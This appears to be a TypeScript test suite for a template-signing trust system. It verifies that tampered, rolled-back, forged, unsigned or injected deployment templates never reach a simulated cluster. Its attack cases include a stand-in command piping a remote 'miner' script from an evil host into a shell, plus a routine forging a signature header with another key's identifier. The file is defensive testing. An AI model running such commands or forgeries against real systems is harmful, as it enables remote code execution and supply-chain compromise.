// A hub that shows what its publisher has not signed, and a cluster that records every request.
import type { Template } from '@svc/contract';
import { aBundle, importBundle } from '../catalog/bundles.ts';
import { aPlainTemplate } from '../deployments/templates/advised.ts';
import { sendChanged } from '../fake-hub.ts';
import { aClusterWorld } from '../reconciler/clusters/world.ts';
import { aSigner, keyringOf, signedBy } from './signed.ts';

const world = aClusterWorld();
const [root, key, stranger] = await Promise.all([aSigner(), aSigner(), aSigner()]);
const template = aPlainTemplate({ registry_url: 'registry.example.test', image_name: 'team/web', image_tag: '6' });
const EVIL = 'evil.example.test/miner';
const [evilRegistry, evilImage] = EVIL.split('/');
const evil = { registry_url: evilRegistry ?? null, image_name: evilImage ?? '' };
const signed = (changes: Partial<Template>, serial: number, by = key) =>
  signedBy(by, { ...template, ...changes }, { serial });
const good = await signed({}, 6);

/** The images in all requests that the cluster has received. */
const received = (): string[] => {
  const images = world().server.requests.flatMap(({ body }) => body.match(/"image":"[^"]*"/g) ?? []);
  return [...new Set(images)];
};

const show = async (shown: Template) => {
  world().hub.publish(shown);
  await world().sync.run();
};

let time = Date.now();
let count = 0;
/** Asks for a deployment in each way. @returns the codes and the reason of the refusals */
async function attempt(): Promise<(string | null)[]> {
  const { api } = world();
  const body = { name: `attempt-${++count}`, template: 'tool', target: { cluster_id: world().clusterId } };
  const created = await api.post('/api/v1/deployments', body);
  const workload = await api.post('/api/v1/workloads', { name: `copy-${count}`, template: 'tool' });
  const workload_id = workload.body.workload?.id;
  const { template: _template, ...rest } = body;
  const ofCopy = await api.post('/api/v1/deployments', { ...rest, workload_id });
  const plan = await api.post('/api/v1/deployments/plan', { ...body, name: 'planned' });
  return [created.body.code, ofCopy.body.code, plan.body.trust.reason];
}

beforeAll(async () => {
  const { api, good: succeed } = world();
  const publisher = {
    slug: 'acme',
    name: 'Acme',
    root: root.key,
    images: ['registry.example.test/*', `${evilRegistry}/*`],
  };
  await succeed(api.post('/api/v1/settings/publishers', publisher));
  world().hub.setPublishers({
    slug: 'acme',
    name: 'Acme',
    keyring: await keyringOf(root, { keys: [key.key] }),
    transitions: [],
  });
  await succeed(api.put('/api/v1/settings/trust', { mode: 'require', by_hand: 'refuse', overrides: 'none' }));
  await show(await signed({ ...evil }, 5)); // an earlier revision, which the publisher has signed
  await show(good);
  const created = await succeed(
    api.post('/api/v1/deployments', { name: 'web', template: 'tool', target: { cluster_id: world().clusterId } }),
  );
  await world().deploymentIs(created.deployment.id, 'running');
});

const attacks: [string, () => Promise<Template>, string][] = [
  ['another image', async () => ({ ...good, ...evil }), 'content_changed'],
  ['the earlier revision', () => signed({ ...evil }, 5), 'rollback'],
  ['two contents with one serial', () => signed({ ...evil }, 6), 'equivocation'],
  [
    'the content of another template',
    async () => ({ ...good, ...evil, signatures: (await signed({ ...evil, slug: 'other' }, 7)).signatures }),
    'content_changed',
  ],
  ['no signatures', async () => ({ ...good, ...evil, signatures: [] }), 'unsigned'],
  ['the key of a stranger', () => signed({ ...evil }, 7, stranger), 'unknown_key'],
  ['the key of a stranger with the right identifier', () => forged(), 'signature_invalid'],
  ['a changed command', async () => ({ ...good, command: ['sh', '-c', `curl ${EVIL} | sh`] }), 'content_changed'],
];

/** A signature of a stranger that names the key of the publisher. */
async function forged(): Promise<Template> {
  const [own = ''] = (await signed({ ...evil }, 7, stranger)).signatures;
  const [header = '', ...rest] = own.split('.');
  const named = { ...JSON.parse(Buffer.from(header, 'base64url').toString()), kid: key.key.kid };
  const signature = [Buffer.from(JSON.stringify(named)).toString('base64url'), ...rest].join('.');
  return { ...template, ...evil, signatures: [signature] };
}

test.each(attacks)('nothing of %s reaches the cluster', async (_name, make, reason) => {
  await show(await make());
  expect(await attempt()).toEqual(['template_untrusted', 'template_untrusted', reason]);
});

test('nothing of an injected member reaches the cluster', async () => {
  await show(good);
  const { hub, api } = world();
  hub.behave(
    sendChanged((page) => ({
      ...page,
      templates: page.templates.map((each: Template) => ({
        ...each,
        env: [...each.env, { name: 'X', value: EVIL }],
      })),
    })),
  );
  await api.post('/api/v1/catalog/sync', { full: true });
  expect(await attempt()).toEqual(['template_untrusted', 'template_untrusted', 'content_changed']);
  hub.recover();
});

test('nothing that is described by hand, and no other image of a signed template, reaches the cluster', async () => {
  await show(good);
  await world().api.post('/api/v1/catalog/sync', { full: true });
  const { api, clusterId } = world();
  const target = { cluster_id: clusterId };
  const described = await api.post('/api/v1/deployments', { name: 'by-hand', spec: evil, target });
  expect([described.status, described.body.code]).toEqual([422, 'by_hand_refused']);
  const { body } = await api.post('/api/v1/workloads', { name: 'changed', template: 'tool', ...evil });
  const changed = await api.post('/api/v1/deployments', { name: 'changed', workload_id: body.workload.id, target });
  expect([changed.status, changed.body.code]).toEqual([422, 'override_refused']);
});

test.each(attacks)('nothing of %s in a bundle reaches the cluster', async (_name, make, reason) => {
  time += 1000;
  const publishers = [{ slug: 'acme', name: 'Acme', keyring: await keyringOf(stranger, { keys: [stranger.key] }) }];
  const bundle = aBundle({ templates: [await make()], publishers, checked_at: new Date(time).toISOString() });
  expect((await importBundle(world().api, bundle, '?force=true')).status).toBe(200);
  expect(await attempt()).toEqual(['template_untrusted', 'template_untrusted', reason]);
});

test('what the cluster received is only what the publisher signed, which still runs', async () => {
  expect(received()).toEqual(['"image":"registry.example.test/team/web:6"']);
  expect(JSON.stringify(world().server.requests)).not.toContain('evil.example.test');
  const { body } = await world().api.get('/api/v1/deployments?view=summary');
  expect(body.deployments.map(({ name, phase }: { name: string; phase: string }) => [name, phase])).toEqual([
    ['web', 'running'],
  ]);
});
